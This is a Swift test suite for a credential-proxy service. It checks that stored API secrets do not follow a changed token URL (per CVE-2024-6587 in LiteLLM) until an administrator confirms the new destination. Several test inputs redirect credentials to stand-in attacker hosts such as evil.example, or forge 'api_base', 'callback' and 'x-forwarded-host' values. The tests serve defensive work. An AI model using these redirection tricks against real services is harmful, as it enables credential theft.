import HTTP
import JSON
import Log
import TestKit
import Testing
import TokenAPI
import Tokens

/// A URL that is changed must not receive the credentials that were entered for another.
@Suite struct ConfirmationTests {
    private static func recipe(_ url: String, _ rest: String = "") -> String {
        #"{"url":"\#(url)","arguments":[{"name":"secret","place":"url","value":"$key_2"}],"token_path":"access_token","#
            + #""expires_in_path":"expires_in"\#(rest)}"#
    }

    private func change(_ world: World, _ members: String) throws {
        let answer = try world.send(.post, "/api/realm", #"{"id":"wx",\#(members)}"#)
        try #require(answer.status == 200, "\(answer.text)")
    }

    private func reenter(_ world: World, _ members: String) throws -> World.Answer {
        try world.send(.post, "/api/secret", #"{"realm":"wx","key":"app",\#(members)}"#)
    }

    private func confirm(_ world: World, _ destination: String) throws -> World.Answer {
        try world.send(.post, "/api/realm/wx/confirm", #"{"destination":"\#(destination)"}"#)
    }

    /// Where the realm says that its credentials go.
    private func destination(_ world: World) throws -> String {
        try #require(try world.send(.get, "/api/realm/wx").json["destination"]?.string)
    }

    /// Ways to make stored credentials travel elsewhere.
    static let moves = [
        #""config":"# + recipe("https://evil.example/cgi-bin/token"),
        #""config":"# + recipe("http://provider.test/cgi-bin/token"),
        #""config":"# + recipe("https://provider.test:8443/cgi-bin/token"),
        #""config":"# + recipe("https://provider.test.evil.example/cgi-bin/token"),
        #""config":"# + recipe("https://evil.example/provider.test", #","method":"POST""#),
        #""config":null,"logic_code":"https://evil.example/""#,
        // The same host, but another place there.
        #""config":"# + World.recipe.replacing("/cgi-bin/token", with: "/gists"),
        #""config":"# + World.recipe.replacing("/cgi-bin/token", with: "/cgi-bin/token?echo=1"),
        #""config":"# + World.recipe.replacing("GET", with: "PUT"),
        #""config":"# + World.recipe.replacing(#""secret","place":"url""#, with: #""q","place":"url""#),
        #""config":"# + World.recipe.replacing(#""secret","place":"url""#, with: #""secret","place":"header""#),
        #""config":null,"logic_code":"https://provider.test/cgi-bin/token""#,
    ]

    @Test(arguments: moves)
    func `CVE-2024-6587 (LiteLLM): stored credentials do not follow a changed URL until an administrator confirms`(
        move: String
    ) throws {
        let world = try World([World.token("T")])
        try world.register()
        try change(world, move)
        for _ in 0..<3 {
            let refused = try world.token()
            #expect(refused.status == 409)
            #expect(refused.json["type"] == "/problems/confirmation-required")
            #expect(!refused.text.contains("canary-secret"))
        }
        #expect(try world.token("&flush=true").status == 409)
        #expect(try world.send(.put, "/api/token", #"{"realm":"wx","key":"app"}"#).status == 409)
        #expect(world.client.requests.isEmpty)

        let realm = try world.send(.get, "/api/realm/wx").json
        #expect(realm["unconfirmed_secrets"] == 1)
        let destination = try #require(realm["destination"]?.string)
        let confirmed = try confirm(world, destination)
        #expect(confirmed.status == 200)
        #expect(confirmed.json["confirmed"] == 1)
        #expect(try world.token().json["token"] == (move.contains("logic_code") ? nil : "T"))
        #expect(world.client.requests.count == 1)
        #expect(world.client.requests.first?.url.hasPrefix(Destination(destination).origin) == true)
        #expect(try world.send(.get, "/api/realm/wx").json["unconfirmed_secrets"] == 0)
    }

    @Test func `CVE-2024-6587 (LiteLLM): no parameter, field or body of a request says where credentials go`() throws {
        let world = try World((0..<100).map { World.token("T\($0)") })
        try world.register()
        try change(world, #""policy":{"class":"G","gap":0}"#)
        let url = "https://evil.example"
        for name in [
            "url", "api_base", "base_url", "host", "endpoint", "destination", "logic_code", "config", "proxy",
            "callback",
        ] {
            _ = try world.token("&flush=true&\(name)=\(url)/")
            let body = #"{"realm":"wx","key":"app","\#(name)":"\#(url)"}"#
            #expect(try world.send(.put, "/api/token", body).status == 400, "\(name)")
            for field in [name, "x-\(name.replacing("_", with: "-"))", "x-forwarded-host"] {
                let forged = Field(try #require(Field.Name(field)), url)
                _ = try world.send(.get, "/api/token?realm=wx&key=app&flush=true", fields: [forged])
            }
        }
        #expect(world.client.requests.count > 10)
        #expect(world.client.requests.allSatisfy { $0.url.hasPrefix("https://provider.test/cgi-bin/token?") })
        #expect(world.client.requests.allSatisfy { !$0.url.contains("evil") })
    }

    private static let form = #"""
        {"url":"https://provider.test/token","method":"POST","content_type":"form","arguments":[
         {"name":"grant_type","place":"body","value":"client_credentials"},
         {"name":"client_secret","place":"body","value":"$key_2"}],"token_path":"access_token"}
        """#
    /// The same places, written otherwise.
    private static let reordered = #"""
        {"token_path":"access_token","arguments":[{"value":"$key_2","place":"body","name":"client_secret"},
         {"value":"client_credentials","place":"body","name":"grant_type"}],
         "content_type":"form","method":"post","url":"https://PROVIDER.test:443/token"}
        """#

    @Test(arguments: [
        #""config":"# + form, #""config":"# + reordered,
        #""config":"# + form.replacing("client_credentials", with: "authorization_code"),
        #""config":"#
            + form.replacing(#""token_path":"#, with: #""expires_in":60,"errors":{"quota":[1]},"token_path":"#),
        #""comment":"c""#, #""policy":{"gap":60}"#,
    ])
    func `a change that sends no credential elsewhere voids nothing`(change: String) throws {
        let world = try World([World.answer(200, #"{"access_token":"T"}"#)])
        try world.register(recipe: ConfirmationTests.form)
        let before = try destination(world)
        try self.change(world, change)
        #expect(try destination(world) == before)
        #expect(try world.send(.get, "/api/realm/wx").json["unconfirmed_secrets"] == 0)
        #expect(try world.token().json["token"] == "T")
        #expect(world.client.requests.count == 1)
    }

    @Test func `an argument that is moved from the body to the query needs a confirmation of just that`() throws {
        let world = try World([World.token("T"), World.token("U")])
        try world.register(recipe: ConfirmationTests.form)
        let before = try destination(world)
        let query = ConfirmationTests.form.replacing(
            #""client_secret","place":"body""#, with: #""client_secret","place":"url""#)
        try change(world, #""config":"# + query)
        #expect(try world.token().json["type"] == "/problems/confirmation-required")
        #expect(world.client.requests.isEmpty)
        let after = try destination(world)
        #expect(Destination(after).origin == "https://provider.test" && after != before)
        for other in [before, "https://provider.test", String(after.dropLast())] {
            #expect(try confirm(world, other).json["type"] == "/problems/destination-changed")
        }
        #expect(try world.token().status == 409)
        #expect(try confirm(world, after).json["confirmed"] == 1)
        #expect(try world.token().json["token"] == "T")
        #expect(world.client.requests.first?.url.hasSuffix("/token?client_secret=canary-secret") == true)
        #expect(try world.send(.get, "/api/secret/wx/app").json["confirmed_for"]?.string == after)
    }

    @Test(arguments: ["config", "logic_code"])
    func `a URL whose host is too long to be confirmed is refused by its field`(_ member: String) throws {
        let world = try World()
        let label = String(repeating: "a", count: 50) + "."
        // With the scheme 228 characters, as many as there may be.
        let longest = "https://" + String(repeating: label, count: 4) + String(repeating: "b", count: 8) + ".example"
        for (url, status) in [(longest, 200), (longest + ":81", 400), (longest.replacing(".bb", with: ".bbb"), 400)] {
            let value = member == "config" ? ConfirmationTests.recipe(url) : #""\#(url)""#
            let answer = try world.send(.post, "/api/realm", #"{"id":"wx","\#(member)":\#(value)}"#)
            #expect(answer.status == status, "\(url): \(answer.text)")
            if status == 400 { #expect(answer.field == (member == "config" ? "config.url" : "logic_code")) }
        }
        #expect(try reenter(world, #""key_1":"a","key_2":"b""#).json["confirmed_for"]?.string?.utf8.count == 300)
        #expect(try confirm(world, try destination(world)).status == 200)
    }

    @Test func `a stored token that lives goes on being served`() throws {
        let world = try World([World.token("old"), World.token("new")])
        try world.register()
        #expect(try world.token().json["token"] == "old")
        try change(world, ConfirmationTests.moves[0])
        for _ in 0..<3 {
            let answer = try world.token()
            #expect(answer.status == 200)
            #expect(answer.json["token"] == "old")
            #expect(answer.json["stale"] == true)
        }
        #expect(world.client.requests.count == 1)
        world.clock.advance(by: .seconds(7_300))
        #expect(try world.token().status == 409)
        #expect(world.client.requests.count == 1)
        #expect(try confirm(world, try destination(world)).status == 200)
        #expect(try world.token().json["token"] == "new")
    }

    @Test func `entering every credential again confirms, entering some does not`() throws {
        let world = try World([World.token("T")])
        try world.register()
        let before = try destination(world)
        try change(world, ConfirmationTests.moves[0])
        #expect(try world.token().status == 409)
        let some = try reenter(world, #""key_1":"an-appid""#)
        #expect(some.json["confirmed_for"]?.string == before)
        #expect(try world.token().status == 409)
        // The same values: whoever knows them may send them there.
        let all = try reenter(world, #""key_1":"an-appid","key_2":"canary-secret""#)
        #expect(all.json["confirmed_for"]?.string == (try destination(world)))
        #expect(try world.token().json["token"] == "T")
    }

    @Test func `a URL that is changed back needs nobody`() throws {
        let world = try World([World.token("T")])
        try world.register()
        try change(world, ConfirmationTests.moves[0])
        #expect(try world.token().status == 409)
        try change(world, #""config":"# + World.recipe)
        #expect(try world.token().json["token"] == "T")
    }

    @Test func `credentials that were entered for no URL go to the first one only once it is confirmed`() throws {
        let world = try World([World.token("T")])
        try change(world, #""comment":"by hand""#)
        #expect(try reenter(world, #""key_1":"a","key_2":"b""#).status == 200)
        try change(world, #""config":"# + World.recipe)
        #expect(try world.token().status == 409)
        #expect(try confirm(world, try destination(world)).json["confirmed"] == 1)
        #expect(try world.token().json["token"] == "T")
    }

    @Test func `what was stored before destinations were kept goes where it went, and nowhere else`() throws {
        let world = try World([World.token("T"), World.token("U")])
        try change(world, #""config":"# + World.recipe)
        let id = SecretID(realm: "wx", key: "app")
        _ = try world.store.write(id, ["key_1": .set(Redacted("a")), "key_2": .set(Redacted("b"))])
        #expect(try world.token().json["token"] == "T")
        try change(world, ConfirmationTests.moves[0])
        world.clock.advance(by: .seconds(7_300))
        #expect(try world.token().status == 409)
        #expect(world.client.requests.count == 1)
    }

    private static let rotating = #"""
        {"url":"https://provider.test/token","method":"POST","token_path":"access_token",
         "refresh_token_path":"refresh_token","expires_in":60,
         "arguments":[{"name":"refresh_token","place":"body","value":"$refresh_token"}]}
        """#

    /// Other parts of the provider's answer: the next refresh token, what it repeats of the request, and the whole.
    @Test(arguments: [
        (#""token_path":"access_token""#, #""token_path":"refresh_token""#),
        (#""token_path":"access_token""#, #""token_path":"request.client_secret""#),
        (#""token_path":"access_token""#, #""content_type":"text""#),
    ])
    func `nobody reads a stored credential back as the token of a recipe that takes it for one`(
        part: String, other: String
    ) throws {
        let body = #"{"access_token":"T","refresh_token":"canary-R2","request":{"client_secret":"canary-R1"}}"#
        let world = try World([World.answer(200, body), World.answer(200, body)])
        try change(world, #""config":"# + ConfirmationTests.rotating)
        #expect(try reenter(world, #""credentials":{"refresh_token":"canary-R1"}"#).status == 200)
        #expect(try world.token().json["token"] == "T")
        var config = ConfirmationTests.rotating.replacing(part, with: other)
        if other.contains("text") {
            config = config.replacing(#""refresh_token_path":"refresh_token","#, with: "")
        }
        try #require(config != ConfirmationTests.rotating)
        try change(world, #""config":"# + config)
        #expect(try world.send(.get, "/api/realm/wx").json["unconfirmed_secrets"] == 1)
        for wish in ["", "&flush=true"] {
            let answer = try world.token(wish)
            #expect(answer.status == 200)
            #expect(answer.json["token"] == "T" && answer.json["stale"] == true)
        }
        world.clock.advance(by: .seconds(61))
        for wish in ["", "&flush=true"] {
            let refused = try world.token(wish)
            #expect(refused.status == 409)
            #expect(refused.json["type"] == "/problems/confirmation-required")
            #expect(refused.json["detail"]?.string?.contains("tells callers something else of the answer") == true)
            #expect(!refused.text.contains("canary"))
        }
        #expect(world.client.requests.count == 1)
        try change(world, #""config":"# + ConfirmationTests.rotating)
        #expect(try world.token().json["token"] == "T")
        #expect(world.client.requests.count == 2)
    }

    /// A good answer that a rule refuses would be told as the provider's error; what a rule compares, a guess at a time.
    @Test(arguments: [
        #"{"status":599}"#, #"{"path":"code","equals":"483920"}"#, #"{"path":"code","equals":"111111"}"#,
        #"{"path":"access_token","exists":false}"#,
    ])
    func `nobody reads a provider's answer as the error of a recipe that takes it for one`(condition: String) throws {
        let good = World.answer(200, #"{"access_token":"T","code":"483920","message":"canary"}"#)
        let world = try World([good, good])
        let config = ConfirmationTests.form.replacing(#""token_path":"#, with: #""expires_in":60,"token_path":"#)
        try world.register(recipe: config)
        #expect(try world.token().json["token"] == "T")
        try change(
            world,
            #""config":"# + config.replacing(#""token_path":"#, with: #""success":[\#(condition)],"token_path":"#))
        #expect(try world.send(.get, "/api/realm/wx").json["unconfirmed_secrets"] == 1)
        world.clock.advance(by: .seconds(61))
        for wish in ["", "&flush=true"] {
            let refused = try world.token(wish)
            #expect(refused.status == 409)
            #expect(refused.json["type"] == "/problems/confirmation-required")
            #expect(!refused.text.contains("483920") && !refused.text.contains("canary"))
        }
        #expect(world.client.requests.count == 1)
    }

    @Test func `a changed path of the token needs a confirmation of just that`() throws {
        let world = try World([World.answer(200, #"{"access_token":"T","data":{"t":"U"}}"#)])
        try world.register(recipe: ConfirmationTests.form)
        let before = try destination(world)
        try change(world, #""config":"# + ConfirmationTests.form.replacing(#""access_token""#, with: #""data.t""#))
        #expect(try world.token().json["type"] == "/problems/confirmation-required")
        #expect(world.client.requests.isEmpty)
        let after = try destination(world)
        #expect(Destination(after).origin == Destination(before).origin && after != before)
        #expect(try confirm(world, before).json["type"] == "/problems/destination-changed")
        #expect(try confirm(world, after).json["confirmed"] == 1)
        #expect(try world.token().json["token"] == "U")
    }

    @Test func `a refresh token that the provider rotated follows no changed URL either`() throws {
        let world = try World([World.answer(200, #"{"access_token":"T","refresh_token":"R2"}"#), World.token("U")])
        try change(world, #""config":"# + ConfirmationTests.rotating)
        #expect(try reenter(world, #""credentials":{"refresh_token":"R1"}"#).status == 200)
        #expect(try world.token().json["token"] == "T")
        try change(
            world, #""config":"# + ConfirmationTests.rotating.replacing("provider.test", with: "evil.example"))
        #expect(try world.token("&flush=true").json["token"] == "T")
        #expect(world.client.requests.count == 1)
    }

    @Test func `a confirmation names what is confirmed`() throws {
        let world = try World([World.token("T")])
        try world.register()
        try change(world, ConfirmationTests.moves[0])
        let named = try destination(world)
        for other in [
            "https://provider.test", "https://evil.example", "https://evil.example:444", "", "evil.example",
            named + "0",
            named.replacing("https", with: "http"), named.replacing("evil", with: "EVIL"), named.uppercased(),
        ] {
            let answer = try confirm(world, other)
            #expect(answer.status == 409, "\(other)")
            #expect(answer.json["type"] == "/problems/destination-changed")
        }
        for body in [
            "{}", #"{"destination":7}"#, #"{"destination":null}"#, #"{"destination":"https://evil.example","x":1}"#,
        ] {
            #expect(try world.send(.post, "/api/realm/wx/confirm", body).status == 400, "\(body)")
        }
        #expect(try world.send(.post, "/api/realm/none/confirm", #"{"destination":"https://h"}"#).status == 404)
        #expect(try world.token().status == 409)
        #expect(try confirm(world, named).json["confirmed"] == 1)
        #expect(try confirm(world, named).json["confirmed"] == 0)
        try change(world, #""config":null"#)
        #expect(try world.send(.get, "/api/realm/wx").json["destination"] == .null)
        #expect(try confirm(world, "").status == 409)
    }
}
